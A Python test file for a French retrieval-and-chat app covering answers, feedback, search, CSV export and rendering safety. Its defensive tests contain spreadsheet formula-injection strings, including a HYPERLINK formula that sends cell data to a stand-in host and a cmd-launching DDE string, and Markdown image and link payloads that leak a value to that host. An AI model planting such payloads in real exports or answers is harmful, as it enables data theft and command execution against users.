"""The app's handlers called directly (no server): chat, feedback, finder, export, dossier, rendering safety."""
from __future__ import annotations

import csv
import dataclasses
import json

import pytest

from app import Conversation, InnosocApp, answer_markdown, clean_message, highlight_terms, sources_panel
from rag.errors import QueryError
from rag.retrieve import Retriever

from .test_llm import server  # noqa: F401  (the fake OpenAI-compatible model server of the LLM tests)


@pytest.fixture(scope="module")
def app(tiny_index, tmp_path_factory):
    return InnosocApp(tiny_index, feedback_path=tmp_path_factory.mktemp("fb") / "feedback.jsonl")


def test_chat_answer_has_markers_sources_and_a_card(app):
    conv = Conversation()
    ans, notice = app.ask("Qui détient le capital d'une SCOP ?", conv)
    assert notice is None and ans.found
    md = answer_markdown(ans)
    assert "[1]" in md and "**Sources**" in md and "1. Guide des sociétés coopératives et participatives" in md
    panel = sources_panel(ans)
    assert 'data-doc-id="scop-guide"' in panel and "<mark>Dans une SCOP, les salariés détiennent" in panel
    assert conv.turns[0]["cited"] == ["scop-guide"] and conv.queries == ["Qui détient le capital d'une SCOP ?"]


def test_follow_up_keeps_the_conversation(app):
    conv = Conversation()
    app.ask("Comment fonctionne le Sol-violette à Toulouse ?", conv)
    ans, _ = app.ask("Et le comité d'agrément ?", conv)
    # completed from the previous standalone subject (not the concatenated questions), and said so
    assert ans.query == "Sol-violette Toulouse le comité d'agrément"
    assert ans.warnings[0].startswith("Question comprise comme : « Sol-violette Toulouse le comité d'agrément »")
    assert ans.citations and ans.citations[0].chunk.doc_id == "sol-violette"


def test_no_answer_offers_closest_resources(app):
    ans, _ = app.ask("Quelle est la recette de la tarte tatin ?", Conversation())
    assert not ans.found
    assert "Ressources les plus proches" in sources_panel(ans)


def test_feedback_is_appended_as_jsonl_keyed_by_turn_id(app):
    conv = Conversation()
    app.ask("paniers de légumes payés à l'avance", conv)
    app.ask("Qui détient le capital d'une SCOP ?", conv)
    first, second = (t["id"] for t in conv.turns)
    assert first and second and first != second
    app.record_feedback(conv, second, liked=False)
    app.record_feedback(conv, first, liked=True)
    rows = [json.loads(ln) for ln in app.feedback_path.read_text(encoding="utf-8").splitlines()]
    assert [(r["turn_id"], r["liked"]) for r in rows[-2:]] == [(second, False), (first, True)]
    assert rows[-1]["question"] == "paniers de légumes payés à l'avance" and rows[-1]["cited_ids"] == ["amap-paniers"]
    assert set(rows[-1]) == {"time", "turn_id", "liked", "question", "answer", "cited_ids", "found"}
    with pytest.raises(QueryError):
        app.record_feedback(conv, "inconnu", liked=True)


def test_a_failed_turn_does_not_shift_later_votes(app):
    """Chat messages 0-1: first question; 2-3: a turn that failed before being recorded; 4-5: third question.
    The vote on message 5 belongs to the third question (index // 2 would have given the failed turn's slot)."""
    conv = Conversation()
    ids = ["t-amap", "t-echec", "t-scop"]
    conv.messages = {1: ids[0], 3: ids[1], 5: ids[2]}
    list(app.ask_stream("paniers de légumes payés à l'avance", conv, turn_id=ids[0]))
    list(app.ask_stream("Qui détient le capital d'une SCOP ?", conv, turn_id=ids[2]))
    row = app.record_feedback(conv, conv.messages.get(5), liked=True)
    assert row["turn_id"] == "t-scop" and row["question"] == "Qui détient le capital d'une SCOP ?"
    with pytest.raises(QueryError, match="Réponse inconnue"):
        app.record_feedback(conv, conv.messages.get(3), liked=False)


def test_finder_filters_by_type_and_returns_resources_not_chunks(app):
    hits = app.find("monnaie coopérative paniers", types=["etude_de_cas", "article"])
    assert {h.chunk.doc_id for h in hits} == {"sol-violette", "amap-paniers"}
    assert len({h.chunk.doc_id for h in hits}) == len(hits)
    html = app.results_html(hits, "monnaie coopérative paniers")
    assert "<mark>monnaie</mark>" in html and "<mark>paniers</mark>" in html


def test_finder_year_range_and_language(app):
    assert {h.chunk.doc_id for h in app.find("économie", year_min=2012, year_max=2015)} == {
        "scop-guide", "economia-solidaria-brasil"}
    assert {h.chunk.doc_id for h in app.find("bank", languages=["en"])} == {"grameen-microcredit"}


def test_similar_resources_and_csv_export(app):
    hits = app.similar("amap-paniers", k=3)
    assert len(hits) == 3 and "amap-paniers" not in [h.chunk.doc_id for h in hits]
    path = app.export_csv(hits)
    with open(path, encoding="utf-8") as f:
        rows = list(csv.reader(f))
    assert rows[0][:4] == ["rang", "id", "titre", "type"] and [r[1] for r in rows[1:]] == [h.chunk.doc_id for h in hits]


def test_csv_export_neutralises_formulas(app):
    hits = app.similar("amap-paniers", k=2)
    evil = {"title": '=HYPERLINK("http://203.0.113.9/?q="&A1,"clic")', "authors": ["+1+cmd|' /C calc'!A0", "@SUM(1)"],
            "url": "-2+3", "language": "\t=1+1", "year": 2020}
    hits[0] = dataclasses.replace(hits[0], chunk=dataclasses.replace(hits[0].chunk, meta={**hits[0].chunk.meta, **evil}))
    with open(app.export_csv(hits), encoding="utf-8") as f:
        rows = list(csv.reader(f))
    cells = [c for r in rows[1:] for c in r]
    assert not [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r"))]
    row = rows[1]
    assert row[2] == "'" + evil["title"] and row[5] == "'+1+cmd|' /C calc'!A0; @SUM(1)" and row[7] == "'-2+3"
    assert row[4] == "2020" and row[0] == "1"  # numbers stay numbers
    assert rows[2][2] == hits[1].chunk.meta["title"]  # ordinary text is untouched


def test_dossier_counts_equal_the_index(app):
    assert app.type_counts() == {"publication": 1, "these": 1, "video": 1, "outil_pedagogique": 0,
                                 "etude_de_cas": 1, "document_analyse": 1, "intervention_publique": 0, "article": 1}
    md = app.counts_markdown()
    assert "| Études de cas | 1 |" in md and "| **Total** | **6** |" in md
    assert "all-MiniLM-L6-v2" in app.index_facts()
    assert "Microcredit and the Grameen Bank" in app.list_type("document_analyse")


def _rendered(markdown: str) -> str:
    """The Markdown as a CommonMark renderer turns it into HTML (the chat uses a compatible one)."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").render(markdown)


def test_markdown_images_and_foreign_links_are_neutralised(app):
    """Passages, titles and a language model's text may carry Markdown that would fetch an image or link to
    another site; only the answer's own resource links survive as links."""
    import re

    from rag.types import Answer, Citation

    ans, _ = app.ask("Qui détient le capital d'une SCOP ?", Conversation())
    src = ans.citations[0].chunk
    own = src.meta["url"]
    hostile = ("Les salariés ![pixel](http://203.0.113.9/p.png?q=secret) détiennent [1] le capital "
               "[voir](http://203.0.113.9/x) ![ref][r] [r] \\![a](http://203.0.113.9/b) <http://203.0.113.9/auto> "
               "[clic](javascript:alert(1)) ![data](data:image/png;base64,AAAA) www.exemple.invalid/x "
               "http://203.0.113.9/nu contact@exemple.invalid voir aussi " + own + "\n\n[r]: http://203.0.113.9/def")
    meta = {**src.meta, "title": "Titre ![t](http://203.0.113.9/t.png)", "authors": ["[A](http://203.0.113.9/a)"]}
    forged = Answer(question="q", text=hostile, hits=ans.hits,
                    citations=[Citation(1, dataclasses.replace(src, meta=meta))], warnings=["![w](http://203.0.113.9/w)"])
    out = _rendered(answer_markdown(forged, notice="![n](http://203.0.113.9/n)"))
    assert "<img" not in out
    hrefs = re.findall(r'href="([^"]*)"', out)
    assert hrefs and set(hrefs) == {own}  # the resource's own link, in the text and in « Sources »
    text = re.sub(r"<[^>]+>", "", out)
    assert "![pixel](http://203.0.113.9/p.png?q=secret)" in text  # shown as written, not hidden
    assert "[1]" in text


def test_html_in_a_question_is_escaped(app):
    ans, _ = app.ask("<script>alert('x')</script> Qui détient le capital d'une SCOP ?", Conversation())
    md = answer_markdown(ans)
    assert "<script>" not in md


def test_password_from_a_file_or_the_environment(tmp_path):
    from app import parse_args, resolve_auth

    f = tmp_path / "comptes.txt"
    f.write_text("# atelier\nanimatrice:Mot:de:passe\n\nobservateur:autre\n", encoding="utf-8")
    f.chmod(0o600)
    assert resolve_auth(parse_args(["--auth-file", str(f)]), {}) == (
        [("animatrice", "Mot:de:passe"), ("observateur", "autre")], [])
    assert resolve_auth(parse_args([]), {"INNOSOC_AUTH": "anim:secret"}) == ([("anim", "secret")], [])
    assert resolve_auth(parse_args([]), {}) == (None, [])
    auth, warnings = resolve_auth(parse_args(["--auth", "anim:secret"]), {"INNOSOC_AUTH": "autre:x"})
    assert auth == [("anim", "secret")] and "ps" in warnings[0]  # still accepted, with a note
    f.chmod(0o644)
    assert "chmod 600" in resolve_auth(parse_args(["--auth-file", str(f)]), {})[1][0]
    for argv, env, message in [
            (["--auth-file", str(tmp_path / "absent.txt")], {}, "absent.txt"),
            (["--auth", "a:b", "--auth-file", str(f)], {}, "s'excluent"),
            (["--auth", "sans-deux-points"], {}, "USER:PASS"),
            ([], {"INNOSOC_AUTH": "anim:"}, "INNOSOC_AUTH")]:
        with pytest.raises(ValueError, match=message):
            resolve_auth(parse_args(argv), env)
    (tmp_path / "vide.txt").write_text("# rien\n")
    with pytest.raises(ValueError, match="aucune ligne"):
        resolve_auth(parse_args(["--auth-file", str(tmp_path / "vide.txt")]), {})


def test_overlong_and_control_characters_are_cleaned():
    text, notice = clean_message("a\x00b\x1bc" + "x" * 5000)
    assert "\x00" not in text and "\x1b" not in text and len(text) == 2000 and "2000" in notice
    assert clean_message("   ")[0] == ""


def test_empty_question_is_refused(app):
    with pytest.raises(QueryError):
        app.ask("  \x00 ", Conversation())


def test_highlight_escapes_document_html():
    out = highlight_terms("Une <b>coopérative</b> & ses membres", "coopérative", "fr")
    assert "<b>" not in out and "&lt;b&gt;<mark>coopérative</mark>&lt;/b&gt;" in out and "&amp;" in out


# ---------------------------------------------------------------- intent cues and a language model in the app

def test_intent_filter_is_shown_and_can_be_lifted(app):
    conv = Conversation()
    ans, _ = app.ask("une vidéo sur les espaces partagés", conv)
    assert ans.applied == ["filtré : vidéos"] and {c.chunk.doc_id for c in ans.citations} == {"tiers-lieux-video"}
    assert "filtré : vidéos" in answer_markdown(ans) and "Reposer sans filtre" in answer_markdown(ans)
    plain, _ = app.ask("une vidéo sur les espaces partagés", Conversation(), use_intent=False)
    assert plain.applied == []


def test_catalogue_question_is_answered_from_metadata(app):
    ans, _ = app.ask("Combien d'études de cas ?", Conversation())
    assert ans.mode == "catalogue" and "1" in ans.text and "Le Sol-violette" in ans.text


def test_language_model_answer_streams_then_is_checked(tiny_index, tmp_path, server):  # noqa: F811
    from rag.llm import LLMAnswerer, LLMClient

    r = Retriever.open(tiny_index)
    llm_app = InnosocApp(tiny_index, feedback_path=tmp_path / "fb.jsonl",
                         answerer=LLMAnswerer(r, LLMClient(server.base, "inventive", 30)))
    items = list(llm_app.ask_stream("Qui détient le capital d'une SCOP ?", Conversation()))
    pieces, (ans, _) = [x for x in items if isinstance(x, str)], items[-1]
    assert pieces and "[7]" in "".join(pieces)       # the raw draft streamed as written…
    assert ans.mode == "llm" and "[7]" not in ans.text  # …then replaced by the checked answer
    assert any("[7]" in w for w in ans.warnings)


def _encoded_texts(app, monkeypatch) -> list[str]:
    emb = app.retriever.embedder
    seen: list[str] = []
    real = emb.encode_queries

    def recording(texts):
        seen.extend(texts)
        return real(texts)
    monkeypatch.setattr(emb, "encode_queries", recording)
    return seen


def test_the_served_app_warms_up_before_the_first_question(corpus_index, tmp_path, monkeypatch):
    # the first participant's question once paid the one-time costs (1.3 to 1.8 s), and the first question in
    # another language also encoded the 26 concept notes' titles (0.3 s)
    titles = {m["title"] for m in Retriever.open(corpus_index).index.documents().values() if m.get("type") == "concept"}
    cold = InnosocApp(corpus_index, feedback_path=tmp_path / "cold.jsonl")
    assert getattr(cold, "_warming", None) is None
    seen = _encoded_texts(cold, monkeypatch)
    cold.ask("What is a SCIC?", Conversation())
    assert titles <= set(seen)
    monkeypatch.undo()

    warm = InnosocApp(corpus_index, feedback_path=tmp_path / "warm.jsonl", warm=True)
    warm._warming.join(timeout=120)
    assert not warm._warming.is_alive()
    assert warm.session.turns() == [] and warm.gaps.events() == []   # warm-up questions are nobody's turns
    seen = _encoded_texts(warm, monkeypatch)
    ans, _ = warm.ask("What is a SCIC?", Conversation())
    assert ans.found and not titles & set(seen)


def test_warming_up_with_a_language_model_never_calls_it(tiny_index, tmp_path, server):  # noqa: F811
    from rag.llm import LLMAnswerer, LLMClient

    before = len(server.requests)
    r = Retriever.open(tiny_index)
    llm_app = InnosocApp(tiny_index, feedback_path=tmp_path / "fb.jsonl", warm=True,
                         answerer=LLMAnswerer(r, LLMClient(server.base, "inventive", 30)))
    llm_app._warming.join(timeout=120)
    assert not llm_app._warming.is_alive() and len(server.requests) == before
